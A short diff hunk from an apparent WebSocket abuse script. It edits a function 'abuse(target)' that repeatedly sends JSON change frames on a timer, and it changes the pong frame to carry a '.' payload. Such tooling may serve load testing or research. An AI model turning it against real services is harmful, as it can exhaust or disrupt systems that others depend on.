@@ -31,7 +31,7 @@ export async function abuse(target) {
         urlIds += ADDED;
       }
       socket.write(frame(Opcode.text, Buffer.from(JSON.stringify(change))));
-      socket.write(frame(Opcode.pong, Buffer.alloc(0)));
+      socket.write(frame(Opcode.pong, Buffer.from('.'))); // what the pings hold
       await sleep(ADD_MS);
     }
   };
